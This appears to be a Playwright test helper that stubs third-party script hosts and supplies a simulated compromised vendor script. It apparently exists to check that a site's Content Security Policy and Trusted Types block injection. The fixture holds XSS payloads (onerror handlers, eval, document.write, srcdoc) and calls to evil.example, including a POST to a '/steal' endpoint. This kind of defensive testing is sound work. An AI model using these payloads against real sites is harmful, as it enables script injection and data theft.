import type { BrowserContext, Request } from 'playwright-core'

/** What the loader of a tag manager does: it reads the address, brings another script, and tells its own hosts. */
const loader = `
(() => {
  const told = encodeURIComponent(JSON.stringify([location.href, document.title, document.referrer, document.cookie]));
  const next = document.createElement('script');
  next.async = true;
  next.src = 'https://tags.example.com/next.js?p=' + told;
  document.head.append(next);
  new Image().src = 'https://tags.example.com/p.gif?p=' + told;
  const layer = () => JSON.stringify(Array.from(window.dataLayer || [], (each) => JSON.stringify(Array.from(each.length ? each : [each]))));
  setInterval(() => navigator.sendBeacon('https://tags.example.com/collect', location.href + layer()), 1000);
})()`

/** What a chat does: it draws its own window, in a frame of its own host. */
const chat = `
(() => {
  const place = document.createElement('div');
  place.id = 'chat';
  place.innerHTML = '<p>Chat</p><iframe id="janela" title="Chat" src="https://chat.example.com/janela"></iframe>';
  document.body.append(place);
})()`

/** What somebody would do who got hold of a vendor's script. */
export const stolen = `
(() => {
  window.tried = [];
  const attempt = (name, what) => { try { what(); window.tried.push(name) } catch { window.tried.push(name + ' refused') } };
  const add = (name, members) => document.body.append(Object.assign(document.createElement(name), members));
  attempt('eval', () => eval('window.hit = 1'));
  attempt('Function', () => new Function('window.hit = 2')());
  attempt('script', () => add('script', { src: 'https://evil.example/x.js' }));
  attempt('inline', () => add('script', { text: 'window.hit = 3' }));
  attempt('innerHTML', () => { document.body.innerHTML += '<img src=x onerror="window.hit = 4">' });
  attempt('insert', () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.hit = 5">'));
  attempt('write', () => document.write('<script>window.hit = 6</script>'));
  attempt('srcdoc', () => add('iframe', { srcdoc: '<script>parent.hit = 7</script>' }));
  attempt('frame', () => add('iframe', { src: 'https://evil.example/' }));
  attempt('worker', () => new Worker('https://evil.example/x.js'));
  attempt('handler', () => document.body.setAttribute('onclick', 'window.hit = 8'));
  attempt('policy', () => trustedTypes.createPolicy('mine', { createHTML: (text) => text }));
  attempt('default', () => trustedTypes.createPolicy('default', { createHTML: (text) => text }));
  fetch('https://evil.example/steal', { method: 'POST', mode: 'no-cors', body: 'x' }).catch(() => {});
  new Image().src = 'https://evil.example/x.gif';
  document.body.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.example/x.css' }));
  document.body.click();
})()`

/** A script that arrived with its request. */
export interface Sent {
  readonly url: string
  readonly body: string
  readonly kind: string
}

/** Answers for every other company, and notes what was asked of which; what nobody expects is answered too. */
export async function standIns(
  context: BrowserContext,
  own: string,
  scripts: Readonly<Record<string, string>> = {},
) {
  const sent: Sent[] = []
  const note = (request: Request) =>
    sent.push({ url: request.url(), body: request.postData() ?? '', kind: request.resourceType() })
  await context.route(
    (url) => url.origin !== new URL(own).origin,
    async (route) => {
      const request = route.request()
      note(request)
      const { host, pathname } = new URL(request.url())
      const known = { 'www.googletagmanager.com': loader, 'chat.example.com': chat, ...scripts }
      const body = Object.entries(known).find(([name]) => name === host)?.[1] ?? ''
      const type =
        request.resourceType() === 'document' || pathname === '/janela' ? 'text/html' : 'text/javascript'
      await route.fulfill({ body: type === 'text/html' ? '<p>janela</p>' : body, contentType: type })
    },
  )
  return sent
}
